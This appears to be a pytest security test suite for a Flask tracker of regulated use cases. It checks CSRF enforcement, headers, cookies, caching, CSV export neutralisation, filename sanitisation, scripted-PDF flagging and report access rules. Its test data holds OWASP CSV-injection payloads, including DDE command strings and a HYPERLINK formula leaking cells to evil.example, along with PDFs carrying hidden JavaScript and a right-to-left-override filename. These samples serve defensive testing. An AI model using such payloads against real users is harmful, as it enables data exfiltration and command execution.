"""CSRF on every form, POST for every change, headers and cookies, error pages."""

from __future__ import annotations

import re
import zlib

import pytest

from tests import factories as f
from tests.conftest import World, csrf_token, login, make_app
from tracker.extensions import db
from tracker.reports import services as report_services
from tracker.reports.models import ReportKind
from tracker.usecases.listing import neutralise
from tracker.usecases.models import Stage
from tracker.usecases.services import add_document, sanitise_filename

PDF = b"%PDF-1.4\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\n%%EOF\n"


@pytest.fixture
def csrf_app(database_url):  # type: ignore[no-untyped-def]
    app = make_app(database_url, WTF_CSRF_ENABLED=True)
    with app.app_context():
        yield app


# The one route without a form token: RFC 8058 one-click unsubscribe, posted by mail clients
# to a signed link (tests/notifications/test_centre.py).
CSRF_EXEMPT = {"notifications.unsubscribe"}


def _post_rules(app) -> list[str]:  # type: ignore[no-untyped-def]
    urls = []
    for rule in app.url_map.iter_rules():
        if "POST" not in (rule.methods or ()) or rule.endpoint in CSRF_EXEMPT:
            continue
        values: dict[str, object] = {}
        for arg in rule.arguments:
            converter = rule._converters.get(arg)
            items = getattr(converter, "items", None)
            values[arg] = sorted(items)[0] if items else 1
        if "name" in rule.arguments:
            values["name"] = "submit"
        urls.append(rule.build(values, append_unknown=False)[1])
    return urls


def test_every_post_route_refuses_a_request_without_csrf_token(csrf_app, world: World):
    client = csrf_app.test_client()
    page = client.get("/login").get_data(as_text=True)
    token = csrf_token(page)
    response = client.post(
        "/login",
        data={"email": world.admin.email, "password": "correct-horse-battery", "csrf_token": token},
    )
    assert response.status_code == 302
    urls = _post_rules(csrf_app)
    assert len(urls) > 10
    for url in urls:
        response = client.post(url, data={"anything": "x"})
        if url.startswith("/api/v1/"):
            # The API takes no cookie, so there is nothing to forge: signed in or not, a request
            # without a bearer token is refused.
            assert response.status_code == 401, url
            continue
        assert response.status_code == 400, url
        assert "Form expired" in response.get_data(as_text=True), url


def test_login_without_token_is_refused(csrf_app, world: World):
    client = csrf_app.test_client()
    response = client.post(
        "/login", data={"email": world.admin.email, "password": "correct-horse-battery"}
    )
    assert response.status_code == 400


def test_logout_is_post_only(client, world: World):
    login(client, world.reviewer)
    assert client.get("/logout").status_code == 405


def test_security_headers(client):
    response = client.get("/login")
    assert "default-src 'self'" in response.headers["Content-Security-Policy"]
    assert response.headers["X-Frame-Options"] == "DENY"
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert response.headers["Cache-Control"] == "no-store"


def test_production_cookie_settings(database_url):
    app = make_app(database_url, SECURE_COOKIES=True)
    assert app.config["SESSION_COOKIE_SECURE"] is True
    assert app.config["SESSION_COOKIE_HTTPONLY"] is True
    assert app.config["SESSION_COOKIE_SAMESITE"] == "Lax"
    assert app.config["PERMANENT_SESSION_LIFETIME"].total_seconds() == 8 * 3600
    assert app.config["MAX_CONTENT_LENGTH"] == 21 * 1024 * 1024


def test_error_pages(client, world: World):
    response = client.get("/no-such-page")
    assert response.status_code == 404
    assert "There is no page at this address." in response.get_data(as_text=True)
    login(client, world.bank_user)
    response = client.get("/use-cases/queue")
    assert response.status_code == 403
    assert "Not allowed" in response.get_data(as_text=True)


def test_anonymous_users_are_sent_to_login(client):
    response = client.get("/dashboard")
    assert response.status_code == 302
    assert "/login" in response.headers["Location"]


def test_document_downloads_are_never_stored_by_a_cache(client, world: World):
    use_case = f.create_use_case(world.cohort, world.bank, world.category, stage=Stage.SUBMITTED)
    document = add_document(use_case, world.bank_user, "plan.pdf", PDF)
    db.session.commit()
    login(client, world.reviewer)
    response = client.get(f"/use-cases/{use_case.id}/documents/{document.id}")
    assert response.status_code == 200
    assert response.headers["Cache-Control"] == "no-store"


def test_register_downloads_are_never_stored_by_a_cache(client, world: World):
    issued = report_services.issue(ReportKind.COHORT, world.cohort, as_at=None, user=world.reviewer)
    db.session.commit()
    login(client, world.reviewer)
    response = client.get(f"/reports/{issued.id}/download")
    assert response.status_code == 200
    assert response.headers["Cache-Control"] == "no-store"


def test_error_pages_and_redirects_are_never_stored_by_a_cache(client, world: World):
    login(client, world.bank_user)
    assert client.get("/admin/users/").headers["Cache-Control"] == "no-store"
    assert client.get("/no-such-page").headers["Cache-Control"] == "no-store"


# OWASP "CSV Injection" payloads, and the same payloads where a spreadsheet splitting on a
# separator would start a new cell in the middle of the field.
OWASP_CSV_PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1&A2, "Error: click to view")',
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+9+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=10+20+cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "\t=1+1",
    "\r=1+1",
    ";=cmd|' /C calc'!A0;",
    "Fraud model,=1+1",
    "Fraud model; @SUM(A1:A9)",
    "Fraud model\t=cmd|' /C calc'!A0",
    "Fraud model|+1",
    "Fraud model\n-1+cmd|' /C calc'!A0",
    "Fraud model\r\n=1",
    "a,\t=1",
    "a;\u00a0=1",
]
SEPARATORS_SPLIT = re.compile(r"[,;\t|\r\n]")


@pytest.mark.parametrize("payload", OWASP_CSV_PAYLOADS)
def test_csv_cells_never_start_a_formula_after_any_separator(payload: str):
    cell = neutralise(payload)
    for piece in [cell, *SEPARATORS_SPLIT.split(cell)]:
        assert not piece.lstrip(" \u00a0").startswith(("=", "+", "-", "@")), (payload, piece)
    # Only quotes were added: the text itself is kept.
    assert cell.replace("'", "") == payload.replace("'", "")


@pytest.mark.parametrize("text", ["Fraud detection", "風險管理", "a=1", "Risk - scoring", "x'y"])
def test_csv_cells_without_a_formula_are_unchanged(text: str):
    assert neutralise(text) == text


def test_csv_export_neutralises_a_title_with_a_separated_formula(client, world: World):
    f.create_use_case(
        world.cohort,
        world.bank,
        world.category,
        stage=Stage.SUBMITTED,
        title=";=cmd|' /C calc'!A0;",
    )
    db.session.commit()
    login(client, world.reviewer)
    raw = client.get("/use-cases/export.csv").get_data(as_text=True)
    assert ";'=cmd|' /C calc'!A0;" in raw
    assert ";=cmd" not in raw


@pytest.mark.parametrize(
    ("name", "stored_as"),
    [
        ("invoice\u202efdp.exe.pdf", "invoicefdp.exe.pdf"),  # right-to-left override
        ("\u2067report\u2069\u200f.pdf", "report.pdf"),  # isolates and a right-to-left mark
        ("a\u200bb\ufeffc\u2066.pdf", "abc.pdf"),  # zero-width space, BOM, isolate
        ("plan\u0085x.pdf", "plan_x.pdf"),  # a C1 control becomes "_" like a C0 one
        ("模型\u202b說明.pdf", "模型說明.pdf"),
    ],
)
def test_file_names_lose_bidi_and_invisible_controls(name: str, stored_as: str):
    assert sanitise_filename(name, "pdf") == stored_as


PDF_WITH_JS = (
    b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>"
    b"\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"
)
PDF_WITH_ESCAPED_JS = PDF.replace(b"<<>>", b"<< /OpenAction << /S /J#61vaScript >> >>", 1)
PDF_WITH_HIDDEN_JS = (
    b"%PDF-1.5\n1 0 obj\n<< /Type /ObjStm /Filter /FlateDecode >>\nstream\n"
    + zlib.compress(b"<< /S /JavaScript /JS (app.alert(1)) >>")
    + b"\nendstream\nendobj\ntrailer\n<<>>\n%%EOF\n"
)


@pytest.mark.parametrize("content", [PDF_WITH_JS, PDF_WITH_ESCAPED_JS, PDF_WITH_HIDDEN_JS])
def test_a_pdf_with_scripts_is_kept_marked_and_shown_with_a_warning(client, world: World, content):
    use_case = f.create_use_case(world.cohort, world.bank, world.category, stage=Stage.SUBMITTED)
    document = add_document(use_case, world.bank_user, "deck.pdf", content)
    plain = add_document(use_case, world.bank_user, "plain.pdf", PDF)
    db.session.commit()
    assert (document.has_scripts, plain.has_scripts) == (True, False)
    assert document.content_type == plain.content_type == "application/pdf"
    login(client, world.reviewer)
    page = client.get(f"/use-cases/{use_case.id}").get_data(as_text=True)
    assert page.count("Contains scripts") == 1
    download = client.get(f"/use-cases/{use_case.id}/documents/{document.id}")
    assert "attachment" in download.headers["Content-Disposition"]


# Report pages: who may see which subject. 404 where the user may not know the subject exists
# (outside the remit, or an institution neither supervised by their regulator nor with a use
# case in their remit), 403 only where they may know it but not report on it. Statuses for
# admin, HKMA staff, SFC staff, IA staff, HKMA supervisor, Harbour Bank user.
REPORT_ROLES = ("admin", "reviewer", "sfc_reviewer", "ia_reviewer", "supervisor", "bank_user")
REPORT_TABLE: list[tuple[str, str, tuple[int, int, int, int, int, int]]] = [
    ("cohort", "hkma_only_cohort", (200, 200, 404, 404, 200, 404)),
    ("cohort", "cohort", (200, 200, 200, 404, 200, 404)),
    ("cohort", "other_cohort", (200, 404, 404, 200, 404, 404)),
    ("cohort", "missing", (404, 404, 404, 404, 404, 404)),
    ("programme", "hkma_only_programme", (200, 200, 404, 404, 200, 404)),
    ("programme", "programme", (200, 200, 200, 404, 200, 404)),
    ("programme", "missing", (404, 404, 404, 404, 404, 404)),
    ("institution", "bank", (200, 200, 404, 404, 200, 200)),
    ("institution", "partner_in_sfc_remit", (200, 200, 200, 404, 200, 404)),
    ("institution", "other_bank_in_sfc_remit", (200, 200, 200, 404, 200, 404)),
    ("institution", "missing", (404, 404, 404, 404, 404, 404)),
]


@pytest.mark.parametrize(
    ("slug", "subject", "role", "status"),
    [
        pytest.param(slug, subject, role, status, id=f"{slug}-{subject}-{role}")
        for slug, subject, statuses in REPORT_TABLE
        for role, status in zip(REPORT_ROLES, statuses, strict=True)
    ],
)
def test_report_pages_answer_404_for_subjects_the_user_may_not_know(
    client, world: World, slug: str, subject: str, role: str, status: int
):
    hkma_only = f.create_programme(world.hkma, name="HKMA only")
    hkma_cohort = f.create_cohort(hkma_only, name="HKMA cohort")
    # Lion Rock Bank and a technology partner have a proposal in the programme SFC takes part
    # in; Harbour Bank has none, so SFC staff do not know of it.
    f.create_use_case(
        world.cohort,
        world.other_bank,
        world.category,
        stage=Stage.SUBMITTED,
        partners=[world.partner],
    )
    db.session.commit()
    ids = {
        "hkma_only_cohort": hkma_cohort.id,
        "cohort": world.cohort.id,
        "other_cohort": world.other_cohort.id,
        "hkma_only_programme": hkma_only.id,
        "programme": world.programme.id,
        "bank": world.bank.id,
        "partner_in_sfc_remit": world.partner.id,
        "other_bank_in_sfc_remit": world.other_bank.id,
        "missing": 987654,
    }
    login(client, getattr(world, role))
    assert client.get(f"/reports/{slug}/{ids[subject]}").status_code == status
